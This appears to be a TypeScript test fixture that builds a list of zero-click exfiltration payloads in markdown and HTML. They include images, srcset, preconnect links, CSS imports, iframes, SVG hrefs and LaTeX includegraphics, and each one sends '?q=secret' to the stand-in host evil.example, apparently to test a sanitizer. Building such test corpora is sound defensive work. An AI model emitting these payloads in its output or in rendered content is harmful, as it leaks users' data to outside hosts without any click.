const HOSTS = ['https://evil.example', '//evil.example:444', 'http://evil.example'];

/** Ways to call home that need no click. */
export const leaks: readonly string[] = HOSTS.flatMap((host) => [
  `![a](${host}/?q=secret)`,
  `![a][b]\n\n[b]: ${host}/?q=secret`,
  `[![a](${host}/a.png)](${host}/b)`,
  `| a |\n|---|\n| ![b](${host}/c.png) |`,
  `<img src="${host}/a.png" srcset="${host}/b.png 2x">`,
  `<link rel="preconnect" href="${host}"><link rel="dns-prefetch" href="${host}">`,
  `<link rel="stylesheet" href="${host}/a.css"><style>@import "${host}/b.css"</style>`,
  `<table background="${host}/a.png"><td style="background:url(${host}/b.png)">a</table>`,
  `<video poster="${host}/a.png" src="${host}/b.mp4"></video><audio src="${host}/c.mp3"></audio>`,
  `<iframe src="${host}/a"></iframe><object data="${host}/b"></object><embed src="${host}/c">`,
  `<svg><image href="${host}/a.png"/><use href="${host}/b.svg#c"/></svg>`,
  `<details open><summary>a ![b](${host}/c.png)</summary>\n\n![d](${host}/e.png)\n\n</details>`,
  `a[^b]\n\n[^b]: ![c](${host}/d.png)`,
  `> [!NOTE]\n> ![a](${host}/b.png)`,
  `$$\\includegraphics{${host}/a.png}$$`,
  `[a](${host}/b) <${host}/c> ${host}/d`,
]);
